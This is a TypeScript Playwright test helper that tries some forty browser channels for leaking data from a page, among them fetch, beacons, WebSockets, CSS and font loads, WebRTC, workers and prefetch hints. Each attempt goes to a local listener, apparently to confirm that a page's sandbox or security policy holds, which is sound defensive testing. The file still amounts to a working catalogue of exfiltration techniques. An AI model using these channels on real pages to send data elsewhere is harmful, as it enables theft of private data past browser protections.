import type { Page } from 'playwright';
import { type Listener, startListener } from './listener.ts';

/** Where an attempt tries to get to. */
export interface Target {
  readonly url: string;
  readonly socket: string;
  readonly port: number;
}

/** Source of a worker that sends from inside: by fetch, WebSocket and importScripts. */
const workerSource = (target: Target) => `
  fetch('${target.url}', { mode: 'no-cors' }).catch(() => {});
  try { new WebSocket('${target.socket}'); } catch {}
  try { importScripts('${target.url}'); } catch {}
`;

/** Every way out of a page that we know of. Each runs in the page and may fail as it likes: the listener decides. */
export const waysOut: Readonly<Record<string, (target: Target) => unknown>> = {
  fetch: ({ url }) => fetch(url, { mode: 'no-cors' }).catch(() => {}),
  'fetch-keepalive': ({ url }) =>
    fetch(url, { method: 'POST', body: 'voters', mode: 'no-cors', keepalive: true }).catch(() => {}),
  xhr: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send('voters');
  },
  beacon: ({ url }) => navigator.sendBeacon(url, 'voters'),
  websocket: ({ socket }) => void new WebSocket(socket),
  eventsource: ({ url }) => void new EventSource(url),
  image: ({ url }) => {
    new Image().src = url;
  },
  'image-in-svg': ({ url }) => {
    document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url}" width="9" height="9"/></svg>`);
  },
  script: ({ url }) => {
    document.body.append(Object.assign(document.createElement('script'), { src: url }));
  },
  'script-module': ({ url }) => {
    document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: url }));
  },
  stylesheet: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }));
  },
  'css-background': ({ url }) => {
    document.body.insertAdjacentHTML('beforeend', `<i style="background:url(${url});display:block">x</i>`);
  },
  'css-import': ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('style'), { textContent: `@import "${url}";` }),
    );
  },
  font: ({ url }) => new FontFace('Elsewhere', `url(${url})`).load().catch(() => {}),
  video: ({ url }) => {
    document.body.append(Object.assign(document.createElement('video'), { src: url, autoplay: true }));
  },
  object: ({ url }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: url }));
  },
  embed: ({ url }) => {
    document.body.append(Object.assign(document.createElement('embed'), { src: url }));
  },
  iframe: ({ url }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
  },
  'iframe-srcdoc': ({ url }) => {
    document.body.append(
      Object.assign(document.createElement('iframe'), {
        srcdoc: `<img src="${url}"><script src="${url}"></script>`,
      }),
    );
  },
  popup: ({ url }) => void window.open(url),
  'link-new-tab': ({ url }) => {
    Object.assign(document.createElement('a'), { href: url, target: '_blank' }).click();
  },
  ping: ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: url });
    document.body.append(link);
    link.click();
  },
  download: ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: url, download: 'voters.csv' });
    document.body.append(link);
    link.click();
  },
  'form-post': ({ url }) => {
    const form = Object.assign(document.createElement('form'), {
      action: url,
      method: 'post',
      target: 'hidden',
    });
    document.body.append(form);
    form.submit();
  },
  prefetch: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }));
  },
  preload: ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: url }),
    );
  },
  modulepreload: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: url }));
  },
  preconnect: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: url }));
  },
  'dns-prefetch': ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: url }));
  },
  manifest: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: url }));
  },
  favicon: ({ url }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: url }));
  },
  'speculation-rules': ({ url }) => {
    const rules = { prefetch: [{ urls: [url] }], prerender: [{ urls: [url] }] };
    document.head.append(
      Object.assign(document.createElement('script'), {
        type: 'speculationrules',
        text: JSON.stringify(rules),
      }),
    );
  },
  'audio-worklet': ({ url }) => new AudioContext().audioWorklet.addModule(url).catch(() => {}),
  webtransport: ({ port }) => {
    const transport = new WebTransport(`https://127.0.0.1:${port}/`);
    transport.ready.catch(() => {});
    transport.closed.catch(() => {});
  },
  'webrtc-stun': async ({ port }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('voters');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'webrtc-turn-tcp': async ({ port }) => {
    const server = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' };
    const peer = new RTCPeerConnection({ iceServers: [server] });
    peer.createDataChannel('voters');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'meta-refresh': ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }),
    );
  },
  navigation: ({ url }) => {
    location.href = url;
  },
};

/** Ways out that start a program of their own in the page's origin; the second argument is that program. */
const workers: Readonly<Record<string, (job: { source: string; file: string }) => unknown>> = {
  'worker-of-file': ({ file }) => void new Worker(file),
  'worker-of-blob': ({ source }) =>
    void new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))),
  'shared-worker-of-file': ({ file }) => void new SharedWorker(file),
  'shared-worker-of-blob': ({ source }) =>
    void new SharedWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))),
  'service-worker': ({ file }) => navigator.serviceWorker.register(file).catch(() => {}),
};

/** What the listeners heard of each attempt that was heard at all. */
export type Heard = Readonly<Record<string, readonly string[]>>;

/** The names of all attempts. */
export const attempts: readonly string[] = [...Object.keys(workers), ...Object.keys(waysOut)];

/** An attempt counts once it is made: what comes of it is for the listeners to hear, and some never end. */
function made(attempt: Promise<unknown>): Promise<unknown> {
  const ended = attempt.catch(() => {});
  return Promise.race([ended, new Promise((resolve) => setTimeout(resolve, 5000))]);
}

/**
 * Tries every way out of the page, each to a listener of its own on 127.0.0.1, and tells what was heard. What the page
 * throws is no concern. Waits until nothing new came for `quiet` milliseconds.
 */
export async function tryEveryWayOut(page: Page, quiet: number): Promise<Heard> {
  const listeners = new Map<string, Listener>();
  for (const name of attempts) listeners.set(name, await startListener());
  const target = (name: string): Target => {
    const port = listeners.get(name)?.port ?? 0;
    return { port, url: `http://127.0.0.1:${port}/voters`, socket: `ws://127.0.0.1:${port}/voters` };
  };
  for (const [name, attempt] of Object.entries(workers)) {
    const source = workerSource(target(name));
    await made(page.evaluate(attempt, { source, file: `/worker.js?${encodeURIComponent(source)}` }));
  }
  for (const [name, attempt] of Object.entries(waysOut)) {
    await made(page.evaluate(attempt, target(name)));
  }
  const everything = () => [...listeners].map(([name, listener]) => [name, listener.heard()] as const);
  const amount = () => everything().reduce((sum, [, lines]) => sum + lines.length, 0);
  for (let before = -1; before !== amount(); ) {
    before = amount();
    await new Promise((resolve) => setTimeout(resolve, quiet));
  }
  const heard = Object.fromEntries(everything().filter(([, lines]) => lines.length > 0));
  for (const listener of listeners.values()) await listener.close();
  return heard;
}
